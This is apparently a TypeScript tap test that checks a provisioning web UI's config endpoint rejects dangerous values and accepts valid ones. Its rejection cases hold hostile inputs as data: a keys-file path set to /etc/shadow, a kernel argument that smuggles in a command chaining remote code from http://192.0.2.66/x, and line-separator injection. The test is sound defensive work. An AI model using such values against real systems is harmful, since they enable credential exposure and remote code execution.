/**
 * Issue 13, items 5, 6 and 9 through the web UI: PUT /api/config validates with the same
 * per-field checks as `config set` and a load, so an accepted value never breaks the
 * configuration, and region.authorized_keys_file cannot publish an arbitrary file.
 */
import * as fs from 'node:fs';
import t from 'tap';
import { loadConfig } from '../../../src/core/config';
import { ADMIN, login, startHarness } from './harness';

const MANAGED = '/etc/uec-provisioning/conf.d/50-managed.conf';

t.test('PUT /api/config refuses what would break or leak; what it accepts loads', async (t) => {
  const h = await startHarness(t);
  const c = await login(h, ADMIN);
  const managed = h.paths.resolve(MANAGED);
  const before = fs.readFileSync(managed, 'utf8');
  for (const [key, value] of [
    ['region.authorized_keys_file', '/etc/shadow'],
    ['region.authorized_keys_file', '/var/lib/uec-provisioning/webui/accounts.json'],
    ['boot.kernel_args', 'quiet\u2028x'],
    ['boot.kernel_args', 'quiet || shell && chain http://192.0.2.66/x'],
    ['region.admin_user', 'a\u0085b'],
  ] as const) {
    const r = await c.call('PUT', '/api/config', { [key]: value });
    t.equal(r.status, 400, `${key} ${JSON.stringify(value).replace(/[\u0085\u2028]/g, '?')} → 400`);
    t.match(r.text, key);
    t.notMatch(r.text, /[\u0085\u2028]/, 'the value is escaped in the answer');
  }
  t.equal(fs.readFileSync(managed, 'utf8'), before, 'the drop-in is unchanged');
  for (const [key, value] of [['region.admin_user', 'null'], ['server.interface', 'null'], ['region.authorized_keys_file', '/etc/uec-provisioning/authorized_keys.lab']] as const) {
    t.equal((await c.call('PUT', '/api/config', { [key]: value })).status, 200, `${key}=${value} accepted`);
    const config = await loadConfig(h.paths, h.session.schema);
    t.equal(config.get(key), value, `${key} loads as ${value}`);
  }
  const listed = await c.call('GET', '/api/config');
  t.equal(listed.status, 200, 'the settings page still loads');
  t.equal(listed.json.find((s: { key: string }) => s.key === 'region.admin_user').value, 'null');
});
